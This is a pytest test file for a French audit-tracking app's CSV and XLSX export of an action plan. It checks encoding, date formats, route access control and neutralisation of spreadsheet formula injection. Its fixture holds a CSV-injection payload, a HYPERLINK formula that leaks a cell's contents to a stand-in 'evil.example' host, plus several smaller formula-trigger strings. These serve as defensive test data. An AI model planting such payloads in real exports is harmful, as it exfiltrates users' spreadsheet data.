"""The action plan exported for the auditor: CSV for French Excel (``;``, UTF-8 with BOM, CRLF)
and XLSX (real dates, text never a formula), from the campaign's page routes."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from audit_tracker.extensions import db
from audit_tracker.findings import exports
from audit_tracker.findings.service import (
    ActionFilters,
    ActionInput,
    FindingInput,
    actions_of,
    create_action,
    create_finding,
    set_action_status,
)
from audit_tracker.models import ActionStatus, Campaign, Framework, MilestoneKind, User

BOM = b"\xef\xbb\xbf"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")'
TODAY = date(2018, 7, 1)


def account(local_part: str) -> User:
    return db.session.scalar(select(User).where(User.email == f"{local_part}@e2c-var.example"))


def campaign() -> Campaign:
    return db.session.scalar(select(Campaign).where(Campaign.name == "Labellisation E2C 2018"))


@pytest.fixture
def plan(demo, make_evidence):
    """Three actions: one with accents and a proof, verified; one late; one whose title and
    description try formula injection."""
    quality = account("qualite")
    the_campaign = campaign()
    qualiopi = db.session.scalar(select(Framework).where(Framework.code == "qualiopi-v9"))
    tpm = next(s for s in the_campaign.school.sites if s.code == "tpm")
    pre_audit = next(m for m in the_campaign.milestones if m.kind is MilestoneKind.PRE_AUDIT)
    finding = create_finding(db.session, pre_audit, quality, FindingInput(
        framework=qualiopi, type_code="nc_mineure", title="Tarifs absents",
        criteria=[qualiopi.criteria[0]]))
    proof = make_evidence(quality, title="Plaquette « été » 2018")
    verified = create_action(db.session, the_campaign, quality, ActionInput(
        title="Réécrire la plaquette (accès, délais, tarifs)", owner=account("tpm"),
        due_on=date(2018, 6, 15), site=tpm, findings=[finding],
        criteria=[qualiopi.criteria[0]], closing_evidence=proof,
        description="Déjà validée par la direction ; reste l’impression."))
    set_action_status(db.session, verified, ActionStatus.DONE, quality, TODAY)
    set_action_status(db.session, verified, ActionStatus.VERIFIED, quality, TODAY, note="ok")
    late = create_action(db.session, the_campaign, quality, ActionInput(
        title="Former les conseillers", owner=quality, due_on=date(2018, 6, 21)))
    evil = create_action(db.session, the_campaign, quality, ActionInput(
        title=EVIL, owner=quality, due_on=date(2018, 9, 1),
        description="-2+3 @SUM(A1:A2)\tfin"))
    db.session.commit()
    return {"verified": verified, "late": late, "evil": evil}


def rows(today: date = TODAY) -> list[list]:
    return exports.action_rows(actions_of(db.session, campaign(), ActionFilters()), today)


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"), newline=""),
                           delimiter=";"))


# --------------------------------------------------------------------------------- the rows


def test_rows_have_a_french_header_and_one_line_per_action(plan):
    table = rows()
    assert table[0] == ["Action", "Description", "Responsable", "Site", "Échéance", "Statut",
                        "Retard (jours)", "Constats", "Critères", "Preuve de clôture",
                        "Vérifiée par", "Vérifiée le"]
    verified, late, evil = table[1:]
    assert verified[0] == "Réécrire la plaquette (accès, délais, tarifs)"
    assert verified[2:7] == ["Responsable du site TPM", "Site TPM (Toulon Provence Méditerranée)",
                             date(2018, 6, 15), "Efficacité vérifiée", 0]
    assert verified[7:11] == ["Pré-audit n°1", "Indicateur 1", "Plaquette « été » 2018",
                              "Responsable qualité E2C Var"]
    assert isinstance(verified[11], date)  # verified today (the real clock), in Paris
    assert late[3] == "Toute l’école" and late[5] == "À faire"
    assert late[6] == 10  # due 21/06/2018, on 01/07/2018
    assert late[11] is None and evil[0] == EVIL  # the rows keep the data; formats neutralise


# ---------------------------------------------------------------------------------------- CSV


def test_csv_is_french_excel_csv(plan):
    data = exports.to_csv(rows())
    assert data.startswith(BOM)
    assert data.count(b"\r\n") >= 4 and b"\n" not in data.replace(b"\r\n", b"")
    text = data[len(BOM):].decode("utf-8")
    assert text.startswith("Action;Description;Responsable;Site;Échéance;Statut;")
    table = read_csv(data)
    verified = table[1]
    assert verified[0] == "Réécrire la plaquette (accès, délais, tarifs)"
    assert verified[1] == "Déjà validée par la direction ; reste l’impression."  # quoted `;`
    assert verified[4] == "15/06/2018" and verified[6] == "0"
    assert verified[9] == "Plaquette « été » 2018"
    assert "é" in text and "Ã" not in text  # accents intact, not double-encoded


def test_csv_neutralises_formulas(plan):
    table = read_csv(exports.to_csv(rows()))
    evil = table[3]
    assert evil[0] == "'" + EVIL
    assert evil[0].startswith("'=HYPERLINK(")
    assert evil[1] == "'-2+3 @SUM(A1:A2)\tfin"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in table for cell in row)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+33 6 12", "'+33 6 12"), ("-x", "'-x"), ("@cmd", "'@cmd"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), ("Échéance", "Échéance"),
])
def test_neutralise(value, expected):
    assert exports.neutralise(value) == expected


def test_csv_writes_numbers_and_dates_as_they_are():
    data = exports.to_csv([["a", "b", "c", "d"], [-3, date(2018, 1, 2), None,
                                                  datetime(2018, 1, 2, 9, 5)]])
    assert data == BOM + b"a;b;c;d\r\n-3;02/01/2018;;02/01/2018 09:05\r\n"


# --------------------------------------------------------------------------------------- XLSX


def load(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def test_xlsx_header_frozen_bold_and_dates_are_date_cells(plan):
    sheet = load(exports.to_xlsx(rows()))
    assert [c.value for c in sheet[1]][:5] == ["Action", "Description", "Responsable", "Site",
                                               "Échéance"]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    due = sheet.cell(row=2, column=5)
    assert due.is_date and due.number_format == "DD/MM/YYYY"
    assert due.value.date() == date(2018, 6, 15)
    assert sheet.cell(row=2, column=12).is_date
    assert sheet.cell(row=3, column=7).value == 10 and sheet.cell(row=3, column=7).data_type == "n"
    assert sheet.cell(row=2, column=1).value == "Réécrire la plaquette (accès, délais, tarifs)"
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKL"]
    assert all(8 <= w <= 62 for w in widths) and widths[0] > widths[6]


def test_xlsx_stores_a_formula_looking_title_as_text(plan):
    sheet = load(exports.to_xlsx(rows()))
    title, description = sheet.cell(row=4, column=1), sheet.cell(row=4, column=2)
    assert title.data_type == "s" and description.data_type == "s"
    assert title.value == "'" + EVIL
    assert description.value == "'-2+3 @SUM(A1:A2)\tfin"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_drops_control_characters_openpyxl_refuses():
    sheet = load(exports.to_xlsx([["Action"], ["bip\x07 \x00fin"]]))
    assert sheet.cell(row=2, column=1).value == "bip fin"


# ------------------------------------------------------------------------------------- routes


def url(kind: str) -> str:
    return f"/campagnes/{campaign().id}/actions/export/plan-actions.{kind}"


@pytest.mark.parametrize("local_part", ["auditeur", "tpm", "qualite"])
def test_everyone_who_reads_can_download_both_formats(client, auth, demo, plan, local_part):
    from audit_tracker.clock import local_today

    auth.login_demo(demo, local_part)
    day = local_today().isoformat()
    response = client.get(url("xlsx"))
    assert response.status_code == 200
    assert response.mimetype == ("application/vnd.openxmlformats-officedocument."
                                 "spreadsheetml.sheet")
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=plan-actions-labellisation-e2c-2018-{day}.xlsx")
    assert "no-store" in response.headers["Cache-Control"]
    sheet = load(response.data)
    assert sheet.max_row == 4 and sheet.cell(row=4, column=1).data_type == "s"
    response = client.get(url("csv"))
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=plan-actions-labellisation-e2c-2018-{day}.csv")
    table = read_csv(response.data)
    assert len(table) == 4 and table[3][0].startswith("'=HYPERLINK(")


def test_anonymous_visitors_go_to_the_login_page(client, demo):
    response = client.get(url("csv"))
    assert response.status_code == 302 and "/connexion" in response.location


def test_another_schools_campaign_is_a_404(client, auth, make_user):
    from audit_tracker.models import Role

    from .factories import CampaignFactory

    other = CampaignFactory()
    user = make_user(Role.QUALITY_LEAD)
    db.session.commit()
    auth.login(user)
    assert client.get(f"/campagnes/{other.id}/actions/export/plan-actions.csv").status_code \
        == 404
    assert client.get(f"/campagnes/{other.id}/actions/export/plan-actions.xlsx").status_code \
        == 404


def test_an_empty_plan_still_has_its_header(client, auth, demo):
    auth.login_demo(demo, "direction")
    table = read_csv(client.get(url("csv")).data)
    assert table == [exports.header()]
    assert load(client.get(url("xlsx")).data).max_row == 1
